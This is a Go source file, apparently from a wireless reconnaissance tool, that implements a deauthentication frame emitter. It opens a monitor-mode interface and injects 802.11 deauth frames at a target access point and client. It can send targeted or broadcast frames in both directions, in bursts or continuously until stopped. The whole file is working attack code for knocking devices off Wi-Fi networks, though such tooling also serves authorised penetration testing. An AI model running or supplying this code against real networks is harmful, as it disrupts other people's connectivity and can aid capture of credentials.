// Package deauth injects targeted 802.11 deauthentication frames over
// a monitor-mode interface (spec.md §4.7).
package deauth

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/google/gopacket/pcap"

	"github.com/lyra-sec/pocketrecon/internal/core/domain"
	"github.com/lyra-sec/pocketrecon/internal/core/ports"
	"github.com/lyra-sec/pocketrecon/internal/telemetry"
)

// frameWriter is the subset of *pcap.Handle the emitter needs; tests
// substitute a recording fake.
type frameWriter interface {
	WritePacketData(data []byte) error
}

// Emitter implements ports.DeauthEmitter over a dedicated pcap write
// handle on iface.
type Emitter struct {
	iface   string
	metrics *telemetry.Metrics

	mu     sync.Mutex
	handle *pcap.Handle
	writer frameWriter
	seq    uint16

	continuousMu     sync.Mutex
	continuousCancel context.CancelFunc
}

// New opens a write handle on iface, which must already be in monitor mode.
func New(iface string, metrics *telemetry.Metrics) (*Emitter, error) {
	handle, err := pcap.OpenLive(iface, 256, false, pcap.BlockForever)
	if err != nil {
		return nil, fmt.Errorf("%w: open %s for injection: %v", ports.ErrRadioUnavailable, iface, err)
	}
	return &Emitter{iface: iface, metrics: metrics, handle: handle, writer: handle}, nil
}

// newWithWriter builds an Emitter around an arbitrary frameWriter, for tests.
func newWithWriter(writer frameWriter, metrics *telemetry.Metrics) *Emitter {
	return &Emitter{metrics: metrics, writer: writer}
}

// Burst sends count iterations of deauth frames to bssid/client,
// yielding for interval between iterations so cancellation via ctx is
// observed between bursts. It returns the number of frames actually
// written.
func (e *Emitter) Burst(ctx context.Context, bssid, client string, count int, interval time.Duration) (int, error) {
	bssidMAC, err := net.ParseMAC(bssid)
	if err != nil {
		return 0, fmt.Errorf("invalid bssid %q: %w", bssid, err)
	}

	broadcast := client == "" || strings.EqualFold(client, domain.BroadcastMAC)
	var clientMAC net.HardwareAddr
	if broadcast {
		clientMAC, _ = net.ParseMAC(domain.BroadcastMAC)
	} else {
		clientMAC, err = net.ParseMAC(client)
		if err != nil {
			return 0, fmt.Errorf("invalid client %q: %w", client, err)
		}
	}

	sent := 0
	for i := 0; i < count; i++ {
		if ctx.Err() != nil {
			return sent, ctx.Err()
		}

		if err := e.send(bssidMAC, clientMAC); err != nil {
			return sent, err
		}
		sent++

		if !broadcast {
			if err := e.send(bssidMAC, clientMAC, true); err != nil {
				return sent, err
			}
			sent++
		}

		if i < count-1 {
			select {
			case <-ctx.Done():
				return sent, ctx.Err()
			case <-time.After(interval):
			}
		}
	}

	return sent, nil
}

// send writes one deauth frame from bssid to client (AP->client
// direction), or from client to bssid when reverse is true.
func (e *Emitter) send(bssid, client net.HardwareAddr, reverse ...bool) error {
	target, sender := client, bssid
	if len(reverse) > 0 && reverse[0] {
		target, sender = bssid, client
	}

	e.mu.Lock()
	seq := e.seq
	e.seq++
	writer := e.writer
	e.mu.Unlock()

	frame, err := serializeDeauth(target, sender, bssid, seq)
	if err != nil {
		return err
	}

	if err := writer.WritePacketData(frame); err != nil {
		if e.metrics != nil {
			e.metrics.DeauthFramesSent.WithLabelValues("error").Inc()
		}
		return fmt.Errorf("inject deauth: %w", err)
	}

	if e.metrics != nil {
		direction := "to_client"
		if len(reverse) > 0 && reverse[0] {
			direction = "to_ap"
		}
		e.metrics.DeauthFramesSent.WithLabelValues(direction).Inc()
	}
	return nil
}

// StartContinuous runs Burst(1, interval) repeatedly until Stop is
// called or ctx is cancelled.
func (e *Emitter) StartContinuous(ctx context.Context, bssid, client string, interval time.Duration) error {
	runCtx, cancel := context.WithCancel(ctx)

	e.continuousMu.Lock()
	if e.continuousCancel != nil {
		e.continuousCancel()
	}
	e.continuousCancel = cancel
	e.continuousMu.Unlock()

	go func() {
		ticker := time.NewTicker(interval)
		defer ticker.Stop()

		for {
			if _, err := e.Burst(runCtx, bssid, client, 1, interval); err != nil {
				return
			}
			select {
			case <-runCtx.Done():
				return
			case <-ticker.C:
			}
		}
	}()

	return nil
}

// Stop cancels any in-flight continuous attack.
func (e *Emitter) Stop() {
	e.continuousMu.Lock()
	defer e.continuousMu.Unlock()
	if e.continuousCancel != nil {
		e.continuousCancel()
		e.continuousCancel = nil
	}
}

// Close releases the underlying pcap handle.
func (e *Emitter) Close() error {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.handle != nil {
		e.handle.Close()
		e.handle = nil
	}
	return nil
}

var _ ports.DeauthEmitter = (*Emitter)(nil)
